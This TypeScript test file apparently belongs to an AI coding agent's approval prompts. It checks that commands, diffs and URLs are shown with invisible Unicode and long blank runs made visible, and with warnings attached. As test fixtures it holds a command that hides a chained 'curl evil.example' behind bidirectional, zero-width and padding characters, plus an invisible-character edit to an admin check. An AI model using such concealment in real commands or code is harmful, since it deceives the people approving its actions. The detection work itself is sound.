import assert from "node:assert/strict";
import fc from "fast-check";
import { describeCall } from "../../src/approvals/card";
import { decide } from "../../src/approvals/decide";
import { reveal } from "../../src/approvals/reveal";
import type { Effect } from "../../src/chunks/effect";
import type { Subject } from "../../src/chunks/protocol";
import { noRules } from "../support/policy";

describe("describeCall", () => {
  const card = (effect: Effect, subject: Subject) => {
    const verdict = decide({ effect, tool: "t", grants: [], policy: noRules });
    assert.ok(verdict.kind === "ask");
    return describeCall({ effect, subject, verdict });
  };

  it("shows a command whole, with its folder and what the tab would allow", () => {
    const effect: Effect = { kind: "run", command: "npm test", cwd: "/w", inside: true };
    assert.deepEqual(card(effect, { kind: "command", command: "npm test", cwd: "/w" }), {
      title: "Run this command?",
      subject: { kind: "command", command: "npm test", cwd: "/w" },
      risk: "Runs on your machine with your rights, outside any sandbox.",
      tabScope: "Exactly this command, in this folder. Asked again when the scripts in package.json have changed.",
    });
  });

  it("makes visible what a text hides, and warns", () => {
    const command = `ls\u{202E}\u{E0041}\u200b #${" ".repeat(200)}; curl evil.example`;
    const shown = card({ kind: "run", command, cwd: "/w", inside: true }, { kind: "command", command, cwd: "/w" });
    assert.deepEqual(
      [shown.subject, shown.risk],
      [
        { kind: "command", command: "ls‹U+202E›‹U+E0041›‹U+200B› # ‹200 blanks› ; curl evil.example", cwd: "/w" },
        "Reaches the network. Runs on your machine with your rights, outside any sandbox. Contains invisible characters, shown as ‹U+…›. Contains long runs of blanks, shown as their number.",
      ],
    );
  });

  it("looks into the lines of a diff", () => {
    const effect: Effect = { kind: "write", path: "/w/a.js", inside: true };
    const diff = [
      { kind: "same", line: 1, text: "// old \u2066 comment" },
      { kind: "add", line: 2, text: "if (admin\u3164) {" },
    ] as const;
    const shown = card(effect, { kind: "edit", path: "a.js", isNew: false, added: 1, removed: 0, diff });
    assert.deepEqual(shown, {
      title: "Edit this file?",
      subject: {
        kind: "edit",
        path: "a.js",
        isNew: false,
        added: 1,
        removed: 0,
        diff: [
          { kind: "same", line: 1, text: "// old ‹U+2066› comment" },
          { kind: "add", line: 2, text: "if (admin‹U+3164›) {" },
        ],
      },
      risk: "Changes a file in the workspace. Contains invisible characters, shown as ‹U+…›.",
      tabScope: "All further edits to this file",
    });
  });

  it("shows what goes to the network, and where", () => {
    const url = "https://a.example/?q=\u200bsecret";
    const effect: Effect = { kind: "net", url, host: "a.example", private: false, why: "Fetches it." };
    assert.deepEqual(card(effect, { kind: "net", act: "page", text: url, host: "a.example" }), {
      title: "Fetch this page?",
      subject: { kind: "net", act: "page", text: "https://a.example/?q=‹U+200B›secret", host: "a.example" },
      risk: "Fetches it. Contains invisible characters, shown as ‹U+…›.",
      tabScope: "All further calls of t to a.example",
    });
  });

  it("asks in words", () => {
    const edit = (inside: boolean, isNew: boolean): string =>
      card({ kind: "write", path: "/x", inside }, { kind: "edit", path: "/x", isNew, added: 0, removed: 0, diff: [] })
        .title;
    const look = (verb: "read" | "list" | "search"): string =>
      card({ kind: "read", path: "/x", inside: false }, { kind: "path", path: "/x", verb }).title;
    assert.deepEqual(
      [
        edit(true, true),
        edit(true, false),
        edit(false, true),
        edit(false, false),
        look("read"),
        look("list"),
        look("search"),
      ],
      [
        "Create this file?",
        "Edit this file?",
        "Create a file outside the workspace?",
        "Edit a file outside the workspace?",
        "Read outside the workspace?",
        "List a folder outside the workspace?",
        "Search outside the workspace?",
      ],
    );
  });
});

describe("reveal", () => {
  it("leaves ordinary text alone, in any script, with emoji and indentation", () => {
    for (const text of [
      "git commit -m 'größe 日本語 ❤️ 😀'\n\tnext line\n\n\nend",
      `${" ".repeat(60)}deep()`,
      "‹U+0041› as written",
    ]) {
      assert.deepEqual(reveal(text), { text, hidden: 0, padded: false });
    }
  });

  it("shows each kind of hidden character", () => {
    const hidden = [
      "\0",
      "\r",
      "\u001b",
      "\u007f",
      "\u0085",
      "\u00a0",
      "\u00ad",
      "\u034f",
      "\u061c",
      "\u115f",
      "\u180e",
      "\u200b",
      "\u200d",
      "\u200e",
      "\u2028",
      "\u202a",
      "\u202e",
      "\u2060",
      "\u2066",
      "\u3000",
      "\u3164",
      "\ufeff",
      "\uffa0",
      "\ud800",
      "\udfff",
      "\u{E0001}",
      "\u{E007F}",
      "\u{E0100}",
    ];
    const shown = hidden.map((character) => reveal(`a${character}b`));
    assert.deepEqual(
      shown.filter(({ text, hidden }) => hidden !== 1 || !/^a‹U\+[0-9A-F]{4,6}›b$/.test(text)),
      [],
    );
  });

  it("folds what would push something out of sight", () => {
    assert.deepEqual(reveal(`a${"\n".repeat(30)}b`), { text: "a\n‹29 empty lines›\nb", hidden: 0, padded: true });
    assert.deepEqual(reveal(`${" ".repeat(150)}b`), { text: " ‹150 blanks› b", hidden: 0, padded: true });
  });

  it("leaves nothing hidden, whatever the text, and says so exactly when it changed it", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary" }),
        fc.string({ unit: fc.constantFrom(" ", "\t", "\n", "a", "\u202e"), maxLength: 300 }),
        (first, second) => {
          const shown = reveal(first + second);
          assert.doesNotMatch(
            shown.text,
            /(?!\u{FE0F}|[\t\n ])[\p{Cc}\p{Cf}\p{Cs}\p{Z}\p{Default_Ignorable_Code_Point}]/u,
          );
          assert.equal(shown.text === first + second, shown.hidden === 0 && !shown.padded);
        },
      ),
    );
  });
});
